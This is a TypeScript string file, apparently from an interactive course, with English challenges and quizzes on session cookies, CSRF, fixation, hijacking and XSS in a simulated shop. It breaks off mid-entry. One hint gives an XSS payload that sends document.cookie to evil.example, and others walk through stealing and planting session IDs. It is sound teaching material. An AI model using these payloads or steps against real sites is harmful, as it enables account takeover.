/**
 * English texts of the activities: challenges and chapter quizzes. They load right after the
 * first paint (see i18n.ts), so the first screen does not wait for them.
 */
export const activitiesEn = {
  sandbox: {
    title: 'Sandbox: the world is yours',
    from: 'from “{{step}}”',
    intro:
      'Change anything — visitors, cookies, the clock, the server and its options — and watch what follows. Undo, or jump back in the history. The link replays your actions on a new server: no secret, no password.',
    tools: 'Sandbox tools',
    undo: 'Undo',
    redo: 'Redo',
    reset: 'Start over',
    copyLink: 'Copy link',
    copied: 'Link copied. Whoever opens it sees the same actions replayed.',
    copyFailed: 'This browser did not let the page copy. Select the link and copy it yourself:',
    linkLabel: 'Link to this sandbox',
    leave: 'Back to the lesson',
    damagedLink:
      'Part of this link could not be read (it may have been cut or edited). The first {{count}} actions were replayed.',
    world: 'More of the world',
    crowd: '+{{count}} visitors',
    plusHour: '+1 hour',
    plusDay: '+1 day',
    serverCount: 'Servers behind the load balancer',
    history: 'What you did',
    start: 'Start: the world of “{{step}}”',
    earlier: '{{count}} earlier actions (Undo reaches them)',
    did: {
      request: '{{who}}: {{method}} {{path}}',
      clock: 'Clock +{{minutes}} min',
      addVisitor: '{{browser}} opened',
      'remove-visitor': '{{who}} left',
      'close-browser': '{{who}} closed the browser',
      'run-console': '{{who}}: document.cookie in the Console',
      'delete-cookie': '{{who}}: cookie {{name}} deleted',
      'edit-cookie': '{{who}}: cookie {{name}} edited',
      'add-cookie': '{{who}}: cookie {{name}} added',
      'copy-cookie': 'Cookie {{name}} copied from {{from}} to {{to}}',
      blockCookies: '{{who}}: all cookies blocked',
      allowCookies: '{{who}}: cookies allowed again',
      crowd: '{{count}} visitors arrived',
      cluster: 'Deployed: {{mode}} ({{size}} servers)',
      oneServer: 'Deployed: one server',
      engine: 'Server stack: {{engine}}',
      'restart-server': 'Server restarted',
      'collect-garbage': 'Expired sessions collected',
      'set-options': 'Session options changed',
      'set-app': 'The shop’s code changed',
      'set-php': 'php.ini changed',
      'set-tomcat': 'Tomcat’s session settings changed',
    },
  },
  challenges: {
    'forged-form-fails': {
      title: 'Make the forged form fail',
      goal: 'Mina’s cookie is SameSite=None, so the hidden form on evil.example fills her cart. Make that form arrive without her cookie, without touching the shop’s code (leave csrfSynchronisedProtection off).',
      hints: {
        '0': 'Which attribute of a cookie decides whether other sites’ requests carry it? The express-session options are under the guest book.',
        '1': 'Set cookie.sameSite to strict or lax. express-session keeps each session’s cookie settings, so only a new session gets them: log in again as Mina.',
        '2': 'Then open evil.example (Add a visitor menu) and click Claim. The wire should say the cookie was not sent.',
      },
      solved:
        'The cookie stayed home: a Strict or Lax cookie never rides a POST another site started, so the shop saw a stranger and Mina’s cart was left alone. Chrome’s two-minute Lax+POST exception covers only cookies without SameSite: one more reason to set it.',
      nudges: {
        'old-cookie':
          'The option changed, but the cookie still went: Mina’s session keeps the settings it was made with (look at its Set-Cookie). Log in again for a new session.',
        code: 'That changes the shop’s code. Turn csrfSynchronisedProtection off and use the cookie’s attribute.',
      },
    },
    'links-stay': {
      title: 'Keep links working, stop the form',
      goal: 'A link on evil.example to Mina’s page should still find her logged in (200), but the hidden form must arrive without her cookie.',
      hints: {
        '0': 'The link is a top-level GET; the form is a POST. One SameSite value tells them apart.',
        '1': 'Strict stops both. Lax lets a top-level GET from another site carry the cookie, and nothing else.',
        '2': 'Set cookie.sameSite to lax and log in again. Then on evil.example follow the link, open evil.example again and click Claim.',
      },
      solved:
        'Lax: the link came with the cookie and showed Mina’s page, the form came without it. That balance is why browsers made Lax the default.',
      nudges: {
        strict:
          'With Strict the link comes without the cookie too (401): Mina would have to log in again whenever she arrives from another site.',
      },
    },
    'token-stops': {
      title: 'Stop the attack with a token',
      goal: 'Keep the cookie at SameSite=None (say a widget on another site needs it). Make the forged form from evil.example get 403 while it still carries Mina’s cookie.',
      hints: {
        '0': 'The shop’s own forms could carry something evil.example cannot know.',
        '1': 'Turn on csrfSynchronisedProtection under the guest book, open My page (it now carries a token), then click Claim on evil.example.',
      },
      solved:
        'The cookie went and the session was found, and still 403: the form had no _csrf token. Only the shop’s pages carry it, and evil.example cannot read them.',
      nudges: {
        samesite:
          'SameSite is no longer none. This time keep it at none and stop the form in the shop’s code.',
      },
    },
    'forget-without-logout': {
      title: 'Forgotten without logging out',
      goal: 'Mina is logged in on Chrome. Make the server forget her session without pressing Log out, then show it: My page must answer 401.',
      hints: {
        '0': 'Sessions in this shop end on their own when nobody uses them for a while. How long?',
        '1': 'The clock panel can jump forward: press +30 min (and a bit more), then open My page.',
      },
      solved:
        'Nobody logged out: the idle timeout ended the session. The cookie’s Expires passed, the browser dropped it, and the row expired.',
      nudges: {
        logout:
          'That is logging out: the server forgot her because she asked. Find a way without it (Start over, then try the clock).',
      },
    },
    'two-users': {
      title: 'Two users at once',
      goal: 'Have Mina and Joon logged in at the same time, each in a browser of their own.',
      hints: {
        '0': 'Each browser has its own cookie jar, so each can hold its own session.',
        '1': 'Log in as mina / sesame in Chrome, then switch to the Safari tab and log in as joon / tiger.',
      },
      solved:
        'Two cookies, two session IDs, two rows: one says user_id 152, the other 214. The server tells them apart only by the cookie each browser sends.',
      nudges: {},
    },
    'steal-without-password': {
      title: 'Mina’s page, without her password',
      goal: 'Open Mina’s My page in Firefox without typing her password.',
      hints: {
        '0': 'The server trusts whoever sends a valid session ID.',
        '1': 'In Chrome, open DevTools → Application → Cookies and copy the connect.sid value.',
        '2': 'Switch to Firefox, add a cookie named connect.sid with that value in its DevTools, then open My page.',
      },
      solved:
        'This is session hijacking. Firefox sent Mina’s session ID, and the server could not tell it from Mina. HttpOnly keeps scripts from reading the cookie, but not a person with DevTools, or malware.',
      nudges: {
        password: 'Typing the password is logging in, not stealing. Do it with the cookie alone.',
      },
    },
    'stolen-worthless': {
      title: 'Make the stolen cookie worthless',
      goal: 'Firefox holds a copy of Mina’s cookie. Without touching Firefox’s cookie, make it useless: Firefox’s My page must answer 401 while it still sends the stolen value.',
      hints: {
        '0': 'A session ID is worth something only while the server keeps its session.',
        '1': 'Switch to Chrome and log Mina out, then try My page in Firefox again.',
      },
      solved:
        'Logging out deleted the session on the server, so the copy points to nothing. That is why you log out on a shared computer.',
      nudges: {
        'thief-side':
          'You changed the thief’s cookie. The attacker would not do that for you: make the stolen value itself worthless, from Mina’s side or the server’s.',
      },
    },
    'stay-logged-in': {
      title: 'Still logged in after closing',
      goal: 'Keep Mina logged in after Chrome closes: log in, close the browser, and My page must still open.',
      hints: {
        '0': 'A cookie without Expires dies with the browser. What gives a cookie an Expires?',
        '1': 'Open “express-session options” under the guest book and set cookie.maxAge.',
        '2': 'Set cookie.maxAge, log in again (a new session takes the new options), close Chrome, then open My page.',
      },
      solved:
        'With maxAge the cookie has an Expires date, so the browser keeps it on disk when it closes: a persistent cookie, like “remember me”.',
      nudges: {},
    },
    'forget-everyone': {
      title: 'Forget everyone at once',
      goal: 'A thousand sessions fill the server’s memory. Make the server forget every one of them at once.',
      hints: {
        '0': 'Where does this server keep its sessions?',
        '1': 'They live in the process’s memory. What happens to memory when the server restarts?',
      },
      solved:
        'The sessions lived in memory, and a restart wipes memory: every visitor, logged in or not, is a stranger again. That is why real sites keep sessions in a store such as Redis.',
      nudges: {},
    },
    'survive-two-servers': {
      title: 'A login that survives two servers',
      goal: 'With two servers, log Mina in and open My page so that a different server from the one that handled the login answers 200.',
      hints: {
        '0': 'Per-server memory loses logins. Pick another way of keeping sessions in the load balancer’s panel.',
        '1': 'Replication or one central store lets any server find the session; then log in and open My page.',
      },
      solved:
        'The server that answered My page found Mina’s session although another server created it: the sessions are shared, not stuck in one server’s memory.',
      nudges: {},
    },
    'stranger-again': {
      title: 'A stranger again',
      goal: 'Chrome has visited twice and has its own row. Without closing Chrome or waiting, make the server greet it as a brand-new visitor: a new session ID and a new row, while the old row is still in the guest book.',
      hints: {
        '0': 'How does the server recognise Chrome: by its IP, its User-Agent, or by something it sends?',
        '1': 'Open DevTools → Application → Cookies, delete connect.sid, then press Home.',
      },
      solved:
        'Same browser, same IP, same User-Agent, and yet a stranger: without the cookie the server cannot tie the visit to the old row, so it started a new session. The old row stays until it expires; the server cannot know that Chrome has gone.',
      nudges: {
        closed:
          'Closing Chrome did not do it: this cookie has an Expires date (cookie.maxAge), so Chrome keeps it on disk and sends it again. Try the cookie itself.',
      },
    },
    'log-out-one': {
      title: 'Log out one, keep the other',
      goal: 'Joon is logged in on Edge and Mina on Chrome. Log Joon out, then show that Mina is still logged in: Chrome’s My page must open.',
      hints: {
        '0': 'Log out destroys one session: the one whose ID came with the request.',
        '1': 'Switch to the Edge tab and press Log out, then switch to Chrome and open My page.',
      },
      solved:
        'Edge’s request carried Joon’s session ID, so only Joon’s row was destroyed. Mina’s row, which Chrome’s own cookie names, was never touched.',
      nudges: {
        'wrong-one':
          'That logged Mina out, in Chrome. Joon is in the Edge tab: Start over and log out there.',
      },
    },
    'plant-session-id': {
      title: 'Plant a session ID',
      goal: 'This shop’s login does not renew the session ID. As the attacker in Firefox, plant your own session ID in Chrome before Mina logs in, let her log in there, then open her My page in Firefox: without her password, and without copying her cookie after she has logged in.',
      hints: {
        '0': 'Firefox already has an anonymous session of its own. Its ID is in Firefox’s DevTools → Application → Cookies.',
        '1': 'Copy Firefox’s connect.sid, switch to Chrome and add a cookie named connect.sid with that value (Paste).',
        '2': 'Log in as mina / sesame in Chrome, then switch to Firefox and open My page.',
      },
      solved:
        'This is session fixation. Mina logged in with the ID you chose, and because the login kept that ID, the session it names now belongs to Mina, while you knew the ID all along. Look at the shop’s code under the express-session options: no req.session.regenerate().',
      nudges: {
        'after-login':
          'That is copying Mina’s cookie after she logged in: session hijacking, an earlier challenge. Here the attacker moves first: hand Chrome an ID before she logs in.',
        renewed:
          'The planted ID stopped working at login: the server gave Mina a new ID, because req.session.regenerate() is ticked. In this challenge the shop’s login keeps the ID: Start over and leave it unticked.',
      },
    },
    'stop-fixation': {
      title: 'Close the fixation hole',
      goal: 'The attacker in Firefox has planted its session ID in Chrome again, and the shop’s login keeps the ID. Change the server so that when Mina logs in on Chrome with the planted ID, Firefox’s My page, sent with that same ID, answers 401.',
      hints: {
        '0': 'The attack works because Mina logs in with an ID the attacker already knows. When should the server hand out a fresh one?',
        '1': 'Under “express-session options”, tick req.session.regenerate() in the shop’s login code; then log in as mina in Chrome and open My page in Firefox.',
      },
      solved:
        'At login the server deleted the planted session and gave Mina a new ID in Set-Cookie. The attacker still holds the old ID, which now names nothing: 401. Renewing the ID on login is what OWASP asks of every login.',
      nudges: {
        'attacker-in':
          'The attacker is in: Mina logged in with the planted ID, and the login kept it. Start over, change what the login does first (the shop’s code under “express-session options”), then let Mina log in.',
        'not-planted':
          'Mina logged in without the planted cookie, so the attack missed this time. But a server cannot count on careful users: Start over, keep the planted cookie, and change the server.',
      },
    },
    'hide-from-scripts': {
      title: 'Read it, then hide it',
      goal: 'This shop now sends its session ID cookie without HttpOnly. In Chrome’s Console, read that cookie with document.cookie. Then change the server so that the same command no longer shows connect.sid, while Mina stays logged in.',
      hints: {
        '0': 'DevTools → Console → Run document.cookie. Whatever a script can read here, an injected script (XSS) can read and send away.',
        '1': 'Under “express-session options”, tick cookie.httpOnly.',
        '2': 'A session keeps the cookie options it was made with: log out and log in again, then run document.cookie once more.',
      },
      solved:
        'The same command, and connect.sid is gone from it, although Chrome still holds the cookie and sends it with every request. HttpOnly hides it from page scripts, so an injected script cannot carry the session ID away. DevTools still shows it: HttpOnly stops scripts, not the person at the keyboard.',
      nudges: {
        'no-cookie':
          'document.cookie shows no connect.sid, but only because Chrome holds no session ID cookie now: Mina is not logged in. Hide the cookie while she stays logged in.',
        'old-session':
          'The option is on, but this session keeps the cookie options it was made with, so Chrome still gets its cookie without HttpOnly. Log out and log in again: the new session takes the new options.',
      },
    },
    'idle-timeout': {
      title: 'An idle timeout',
      goal: 'Right now the shop sets no cookie.maxAge, so a session never expires on the server. Make Mina’s session end by itself after a few idle minutes, with Chrome left open and no Log out after her login: My page must then answer 401.',
      hints: {
        '0': 'Without maxAge, wait as long as you like: the session never expires. What gives a session a lifetime?',
        '1': 'Under “express-session options”, set cookie.maxAge to 5 minutes. It applies to sessions made after the change: log out and log in again.',
        '2': 'Then press +5 min on the clock and open My page.',
      },
      solved:
        'No logout, no closing: five quiet minutes ended the session. With maxAge the cookie got an Expires and the session an expiry time, and five minutes without a request ended both.',
      nudges: {
        closed:
          'Closing Chrome ends a cookie without Expires, but here Chrome stays open: the server should end the session on its own. Start over.',
        never:
          'Still logged in after all that time: this session was made without maxAge and has no expiry. Set cookie.maxAge, then log out and in again so that a new session takes it.',
      },
    },
    'no-row-for-strangers': {
      title: 'No row for strangers',
      goal: 'A thousand anonymous visitors filled the guest book, each with a row although none of them did anything. Change the server so that a visitor without a cookie can open the home page without getting a row or a cookie.',
      hints: {
        '0': 'Which express-session option stores a new session that nothing was written into?',
        '1': 'Untick saveUninitialized, then make Chrome a visitor without a cookie (delete connect.sid in DevTools, or add a new browser) and press Home.',
      },
      solved:
        'The home page opened, yet no row was written and no Set-Cookie was sent: with saveUninitialized off, a session is stored only once something is put in it, such as a login or a cart item. A thousand passers-by now cost nothing.',
      nudges: {
        'row-made':
          'That visit got a row and a cookie although the visitor did nothing: saveUninitialized is still on.',
      },
    },
    'sticky-without-sharing': {
      title: 'Sticky, without sharing',
      goal: 'Two servers, each keeping sessions in its own memory. Without sharing sessions between the servers, log Mina in and open My page twice, both times answered by the server that handled her login.',
      hints: {
        '0': 'If sessions cannot move between servers, Mina has to keep reaching the same server.',
        '1': 'In Servers, choose “two servers, sticky sessions”, then log in and open My page twice.',
      },
      solved:
        'The load balancer pinned Chrome to the server that holds Mina’s session, so every request found it. Nothing was copied or shared. But if that server goes down, everyone pinned to it is logged out.',
      nudges: {
        shared:
          'That works, but now the servers share sessions (a copy on each, or one central store). Here, keep each server’s own memory and let the load balancer do the work.',
        lost: 'The load balancer sent My page to the other server, which has never seen this session: 401. Make it send Mina to the same server every time.',
      },
    },
    'edit-the-cookie': {
      title: 'Make the cookie say something else',
      goal: 'Chrome’s cookie holds Mina’s whole session: her cart and user_id. Change what it says (the cart, or whose account it is) and send it to the server. See what the server does with your edit.',
      hints: {
        '0': 'The value of the cookie named session is base64 of JSON. The panel under the guest book shows it decoded.',
        '1': 'Open DevTools → Application → Cookies in Chrome and edit the value of session: any other base64 will do, e.g. base64 of {"cart":["apple"],"userId":214}.',
        '2': 'Leave session.sig as it is, then open My page.',
      },
      solved:
        'The server signed your value with its key and got another signature than session.sig: it ignored the whole cookie and started an empty session. You could read the data and change it, but without the key you cannot make the server believe it.',
      nudges: {
        'sig-only':
          'You sent the server’s own data with another signature: refused too. Now change the data itself, in the cookie named session.',
      },
    },
    'outlive-logout': {
      title: 'A logout that does not end the session',
      goal: 'Mina is logged in on Chrome, on a shared PC. Get Firefox into Mina’s My page after Mina has logged out on Chrome, without her password.',
      hints: {
        '0': 'With a cookie store the server keeps no list of sessions: whatever signed cookie arrives is believed.',
        '1': 'Before Mina logs out, copy the values of both cookies, session and session.sig, from Chrome’s DevTools, and add cookies with the same names and values in Firefox’s DevTools.',
        '2': 'Then log Mina out in Chrome, switch to Firefox and open My page.',
      },
      solved:
        'Logging out cleared Chrome’s cookies, but the server had nothing to delete: the copy in Firefox is still a valid, signed session until its Expires. With a session ID, logout deletes the row and every copy dies with it. Cookie stores need short lifetimes, or a changed key, to cut such copies off.',
      nudges: {
        password:
          'Typing Mina’s password is logging in, not keeping her session. Use a copy of her cookies.',
      },
    },
    'open-admin': {
      title: 'Into the admin page',
      goal: 'Joon is logged in on Chrome and the admin page says 403. Make the admin page answer 200.',
      hints: {
        '0': 'What the server lets in depends on which account is logged in, not on the browser or the cookie.',
        '1': 'Log Joon out, log in as sora / owl, then open the admin page.',
      },
      solved:
        'Sora’s account is an admin, so the same page, the same browser and a new session get 200. Authorization follows the account the session names.',
      nudges: {
        forbidden:
          'Still 403: the account logged in is not an admin. Asking again changes nothing; another account does.',
      },
    },
    'forbidden-not-unknown': {
      title: 'A 403, not a 401',
      goal: 'In Safari, make the admin page answer 403 Forbidden, not 401.',
      hints: {
        '0': '401 means the server does not know who you are. 403 means it knows, and says no.',
        '1': 'Log in on Safari as an account that is not an admin (mina / sesame), then open the admin page.',
      },
      solved:
        'Safari is now known (Mina), and Mina is not an admin: 403. A 401 asks you to log in; a 403 tells you that logging in is not the problem.',
      nudges: {
        unknown:
          'That is 401: Safari is not logged in, so the server does not know who is asking. Log in first.',
        admin: 'That is 200: the admin may open it. Log in with an account that is not an admin.',
      },
    },
    'php-strict': {
      title: 'Refuse a made-up PHPSESSID',
      goal: 'PHP took whatever PHPSESSID it was sent. Make it refuse a made-up one: change a setting, then send a request with an ID you invent.',
      hints: {
        '0': 'Look at the PHP session settings under the guest book.',
        '1': 'session.use_strict_mode refuses an ID this server never made.',
        '2': 'Turn it on, change PHPSESSID in DevTools → Application → Cookies to any letters and digits, then open the home page.',
      },
      solved:
        'With use_strict_mode on, PHP answered your made-up ID with a new one of its own. With it off, PHP adopts yours, and that is how session fixation starts.',
      nudges: {
        adopted:
          'PHP adopted your made-up ID (see the trace): the setting that refuses it is still off.',
      },
    },
    'tomcat-idle': {
      title: 'Let Tomcat end the session',
      goal: 'Make Tomcat end Mina’s session without logging out, and show it: My page must answer 401 while the browser still sends JSESSIONID.',
      hints: {
        '0': 'Tomcat ends a session that has been idle for maxInactiveInterval.',
        '1': 'Move the server clock forward 30 minutes, then open My page.',
      },
      solved:
        'The browser still sent JSESSIONID, but Tomcat had expired the session on the server after 30 idle minutes. The cookie itself never had an expiry: the server decides.',
      nudges: {
        'logged-out': 'Logging out ends it too, but the goal is to let it run out by itself.',
      },
    },
    'laravel-lottery': {
      title: 'Clear Laravel’s table by lottery',
      goal: 'Mina’s row in Laravel’s sessions table outlives her session: an expired row stays until something deletes it. Get it deleted without logging out.',
      hints: {
        '0': 'A row is old once last_activity is more than lifetime (120 minutes) ago. Old rows are deleted only when a request wins the lottery.',
        '1': 'The lottery [2, 100] gives each request a 2 in 100 chance. In the settings, make it certain.',
        '2': 'Set lottery to [1, 1], move the clock past 120 minutes, then open any page.',
      },
      solved:
        'The request won the lottery, and Laravel ran DELETE FROM sessions WHERE last_activity is older than lifetime. Until a draw wins, an expired row just sits in the table; reading it gives an empty session.',
      nudges: {
        'still-there':
          'Mina’s row is old now but still in the table: no request has won the lottery yet. Make the draw certain.',
      },
    },
    'flask-forge': {
      title: 'Become Joon in Flask’s cookie',
      goal: 'Mina’s Flask cookie says {"user_id":152}. Edit it to say 214 (Joon’s ID) and open My page. Does the server believe you?',
      hints: {
        '0': 'The part before the first dot is the session itself, in base64.',
        '1': '{"user_id":214} in base64 is eyJ1c2VyX2lkIjoyMTR9.',
        '2': 'In DevTools → Application → Cookies, put that before the first dot of session (keep the rest), then open My page.',
      },
      solved:
        'Reading was easy, forging was not. The signature is an HMAC of the data with the secret key: change one byte and it no longer matches, so Flask starts an empty session and My page answers 401.',
      nudges: {},
    },
    'flask-signer': {
      title: 'Refuse a made-up Flask-Session ID',
      goal: 'Flask-Session took whatever session ID it was sent, as PHP did. Make it refuse a made-up one, then send one.',
      hints: {
        '0': 'Look at the Flask session settings under the guest book.',
        '1': 'SESSION_USE_SIGNER signs the ID in the cookie.',
        '2': 'Turn it on, change the session ID cookie to any text in DevTools, then open the home page.',
      },
      solved:
        'Signed, an ID can only come from the server: yours failed the signature, and Flask-Session started a new session under its own ID. Unsigned, it would have adopted yours.',
      nudges: {
        adopted:
          'Flask-Session adopted your made-up ID (see the trace): nothing checks where an ID came from yet.',
      },
    },
    'login-sticks': {
      title: 'Make the login stick',
      goal: 'Safari blocks cookies, so Mina’s login is lost at once. Make Safari open Mina’s My page (200) after logging in.',
      hints: {
        '0': 'The login lives in a session on the server; only the cookie tells the server which one is Safari’s.',
        '1': 'Open the visitor menu (Add a visitor) and allow cookies in Safari again, then log in and open My page.',
      },
      solved:
        'With cookies allowed, Safari kept the session ID cookie and sent it back, so the server found Mina’s session on the next request. The login sticks because the cookie carries it.',
      nudges: {
        blocked:
          'Still 401: Safari still blocks cookies, so the session ID never comes back. Change that first.',
      },
    },
    'three-strangers': {
      title: 'Three strangers from one browser',
      goal: 'Make Safari open pages three times in a row so that each request starts a new session: three new rows in the guest book.',
      hints: {
        '0': 'The server recognises a browser only by the cookie it sends back.',
        '1': 'Block all cookies in Safari (visitor menu), then open the home page three times.',
      },
      solved:
        'Three requests, three sessions: without a cookie the server cannot tell that they came from the same browser. HTTP is stateless; only the cookie ties requests together.',
      nudges: {
        remembered:
          'That request made no new row: Safari sent back the cookie it got, so the server recognised it.',
      },
    },
    'xss-steal-session': {
      title: 'Steal Mina’s session',
      goal: 'You are the visitor in Firefox. Write a review that sends Mina’s cookie to evil.example, let Mina open the reviews (her Chrome tab), then use her session from evil.example’s log to open her My page in Firefox.',
      hints: {
        '0': 'The review page writes your text into its HTML as it is. An image that fails to load runs its onerror attribute.',
        '1': 'Try: <img src=x onerror="fetch(\'https://evil.example/?c=\'+document.cookie)">',
        '2': 'Then open Chrome’s tab and press Reviews. Back in Firefox, press “Use connect.sid in Firefox” on Mina’s line in evil.example’s log, then My page.',
      },
      solved:
        'Mina’s browser ran your markup as part of the shop’s page, read her cookie and sent it away; with it, Firefox is Mina. No password, no server bug in the session code: one unescaped review and a cookie scripts could read.',
      nudges: {
        'own-cookie':
          'That cookie came from your own browser (it also showed the page). Use the one evil.example received from Mina’s Chrome.',
        'wait-for-mina':
          'The trap is set. Now Mina has to open the review page: switch to her Chrome tab and press Reviews.',
        'not-understood':
          'Your review is on the page, but nothing in it sends document.cookie to an address. Use onerror on an image with a src, and fetch() to https://evil.example/.',
      },
    },
    'xss-httponly-stops-theft': {
      title: 'Stop the theft, keep the code',
      goal: 'Without changing the shop’s code (leave the review page unescaped), make Mina open the reviews while logged in without her session ID cookie reaching evil.example.',
      hints: {
        '0': 'document.cookie cannot see a cookie marked HttpOnly. Which option sets it?',
        '1': 'Under the guest book, turn on cookie.httpOnly. The option applies to cookies the server sets from then on.',
        '2': 'Mina’s cookie was set before: log her in again in Chrome (mina / sesame), then open Reviews.',
      },
      solved:
        'The script still ran and still called evil.example, but document.cookie no longer held connect.sid. HttpOnly protects the cookie, not the page: the injected script could still act as Mina on it.',
      nudges: {
        'code-changed':
          'Escaping changes the shop’s code (that is the next challenge). This time turn it off again and protect the cookie instead.',
        'old-cookie':
          'HttpOnly is on, but Mina still holds the cookie she got before: her session keeps it. Log her in again to get a new one.',
        'logged-out': 'Mina is not logged in: log her in again, then open the reviews.',
      },
    },
    'xss-escape-output': {
      title: 'Stop the injection itself',
      goal: 'Make the shop write reviews into its page as text, so that Mina sees the planted review as the characters that were typed and nothing in the page runs.',
      hints: {
        '0': 'The fault is where the shop writes the review into its HTML.',
        '1': 'Under the guest book, turn on “Escape reviews on the page”, then open Reviews in Mina’s Chrome.',
      },
      solved:
        'Escaped, the review’s < arrives as &lt;: the browser shows it and runs nothing. Escaping at output stops the injection for every visitor, logged in or not, whatever the cookie’s flags.',
      nudges: {
        'still-runs':
          'HttpOnly keeps the cookie safe, but the review still runs on Mina’s page. Stop it where the shop writes the review.',
      },
    },
    'secure-cafe-link': {
      title: 'Never over http',
      goal: 'Mina’s session ID cookie must never travel over the café’s http link. Set the server so that the link carries no such cookie while Mina stays logged in over https, then open the café link to show it.',
      hints: {
        '0': 'A cookie marked Secure is kept for https requests only. Which of the server’s options sets that mark?',
        '1': 'Set cookie.secure to true in the server’s code and options. The mark is written when the server sets the cookie.',
        '2': 'The cookie Mina holds was set without Secure: log out, log in again over https, then open the café link.',
      },
      solved:
        'The café link went out without a Cookie header: the browser keeps Mina’s Secure cookie for https only, and she is still logged in there. Nothing is left for the Wi-Fi to read.',
      nudges: {
        'sent-in-clear':
          'The cookie just crossed the café’s Wi-Fi in plain text (look at what the network sees). Nothing stops the browser from sending it over http yet.',
        'old-cookie':
          'The option is set, but the cookie still went out in the clear: Mina holds the cookie the server set before, without Secure. It changes when the server sets a new one: log in again.',
        'logged-out':
          'No cookie went over http, but Mina is no longer logged in: a deleted cookie protects a login she no longer has.',
      },
    },
    'kinds-keep-login': {
      title: 'End the browser session, keep the login',
      goal: 'Close Mina’s browser, then open My page as Mina (200) without logging in after the close: one login session on both sides of the browser’s close. The timeline shows it.',
      hints: {
        '0': 'The login session lives on the server. After the close, the browser must still hold the cookie that names it.',
        '1': 'A cookie with Max-Age outlives the browser. Give cookie.maxAge a value in the server’s code and options.',
        '2': 'The new maxAge applies to the cookie the server sets next: log out and in again, then close Chrome (visitor menu) and open My page.',
      },
      solved:
        'One login session across two browser sessions and several connections: the persistent cookie carried it through the close. The three “sessions” really are three different things.',
      nudges: {
        'memory-cookie':
          'The login was lost with the browser: the cookie had no Max-Age, so it lasted one browser session. The session is still on the server, out of reach.',
        'old-cookie':
          'maxAge is set, but Mina’s cookie was set before it, still without Max-Age. Log in again so the server sets a new one, then close the browser.',
        'not-closed':
          'Mina is logged in, but her browser has not been closed yet: end the browser session first (visitor menu).',
      },
    },
    'secure-eavesdrop': {
      title: 'The other guest at the café',
      goal: 'You are another guest on the café’s Wi-Fi, with Firefox. Mina’s request just went over http. Read her session ID cookie off what the network sees, put it in Firefox’s jar, and open My page as Mina.',
      hints: {
        '0': 'Under the envelopes, “What the café’s network sees” shows Mina’s request as it crossed the Wi-Fi, Cookie header included.',
        '1': 'The value is everything after connect.sid= in that line. In Firefox’s DevTools, Application → Cookies has a form to add a cookie.',
        '2': 'Add a cookie named connect.sid with that value in Firefox, then press My page.',
      },
      solved:
        'Firefox opened Mina’s page with a cookie read off the Wi-Fi: no password needed. This is what Secure prevents: a Secure cookie never crosses a network in the clear.',
      nudges: {
        'no-cookie':
          'Firefox sent no session ID cookie: add one to its jar first (DevTools → Application → Cookies).',
        'wrong-value':
          'The server did not know that cookie: copy the whole value after connect.sid= from the café’s view, exactly.',
      },
    },
    'kinds-three-connections': {
      title: 'One login, three connections',
      goal: 'Keep Mina’s one login session while her browser opens My page over three different connections, without closing the browser or logging in again.',
      hints: {
        '0': 'The server closes a connection after 5 seconds without a request; the login lasts 30 idle minutes.',
        '1': 'Let some minutes pass (+5 min) before each click on My page, three times.',
      },
      solved:
        'Three connections, one login session: the connection only carries requests, and the cookie in each request names the same session.',
      nudges: {
        'same-connection':
          'These requests came within 5 seconds of each other, so they shared one connection. Let time pass between them.',
        expired:
          'Too long: 30 minutes without a request, and the login session itself expired. Shorter pauses keep it alive.',
      },
    },
  },
  quiz: {
    'cross-site-what': {
      prompt:
        'A hidden form on evil.example added a gift card to Mina’s cart. What made that possible?',
      options: {
        forged: 'Her browser sent her session ID cookie with a request another site started',
        stolen: 'evil.example read her session ID cookie',
        guessed: 'evil.example guessed her session ID',
        script: 'A script ran inside the shop’s page',
      },
      explain:
        'In CSRF nothing is stolen: the other site makes Mina’s own browser send the request, and the browser adds her cookie as it would to any request to the shop.',
    },
    'cross-site-lax': {
      prompt: 'Mina’s cookie is SameSite=Lax. Which request from evil.example carries it?',
      options: {
        link: 'Following a link to the shop (a top-level GET)',
        form: 'A hidden form that POSTs to the shop',
        image: 'An image whose address is on the shop',
        none: 'None of them',
      },
      explain:
        'Lax lets a cookie go with a request from another site only when it is a top-level navigation with a safe method such as GET.',
    },
    'cross-site-token-why': {
      prompt: 'Why can the forged form not send the right CSRF token?',
      options: {
        'cannot-read': 'The token is only in the shop’s pages, and another site cannot read them',
        encrypted: 'The token is encrypted',
        cookie: 'The token is in an HttpOnly cookie',
        'secret-url': 'The form’s address is secret',
      },
      explain:
        'The browser sends the cookie for any site, but it does not let evil.example read the shop’s answers (the same-origin policy). A value found only in the shop’s pages cannot be forged.',
    },
    'cross-site-attack': {
      prompt: 'Put the forgery in order.',
      options: {
        login: 'Mina logs in at the shop',
        visit: 'She opens a page on evil.example',
        submit: 'The page submits its hidden form to the shop',
        cookie: 'Her browser adds her session ID cookie, if SameSite allows',
        cart: 'The shop acts as Mina and changes her cart',
      },
      explain:
        'Each step is ordinary browser behaviour. SameSite breaks the fourth, a CSRF token the fifth.',
    },
    'cross-site-strict-request': {
      prompt:
        'Mina’s cookie is SameSite=Strict. This is said to be the forged form’s request from evil.example. Which line is wrong?',
      explain:
        'A Strict cookie never goes with a request another site started, so there is no Cookie line: the shop sees a stranger.',
    },
    'secure-eavesdropper': {
      prompt:
        'Mina opens http://shop.example/me on the café’s Wi-Fi, with a session ID cookie without Secure. What can another guest on the same Wi-Fi read?',
      options: {
        'cookie-header': 'The whole request, the Cookie header with the session ID included',
        nothing: 'Nothing: Wi-Fi is always encrypted',
        'password-only': 'Only passwords',
        'server-name-only': 'Only the server’s name',
      },
      explain:
        'Plain http sends every byte as it is, and an open Wi-Fi (or one whose password every guest knows) hides nothing from the other guests. Whoever copies the session ID can use Mina’s login.',
    },
    'secure-https-sees': {
      prompt: 'The same request over https. What does the café’s network still see?',
      options: {
        'name-and-size': 'The server’s name and how many bytes go back and forth',
        'whole-request': 'The whole request',
        'nothing-at-all': 'Nothing at all, not even which site',
        'cookie-only': 'Only the Cookie header',
      },
      explain:
        'TLS hides the headers and the body. The server’s name usually travels in the clear as the connection starts (SNI), and sizes and timing can be seen.',
    },
    'secure-option-http': {
      prompt:
        'With cookie.secure: true, a new visitor opens the shop over plain http. What does express-session send?',
      options: {
        'no-set-cookie': 'No Set-Cookie at all',
        'secure-cookie': 'A Set-Cookie with Secure',
        'plain-cookie': 'A Set-Cookie without Secure',
        error: 'An error page',
      },
      explain:
        'express-session checks req.secure and sets no cookie on an insecure request. Behind a proxy that speaks https for it, the app needs trust proxy to learn that the request was secure.',
    },
    'secure-steps': {
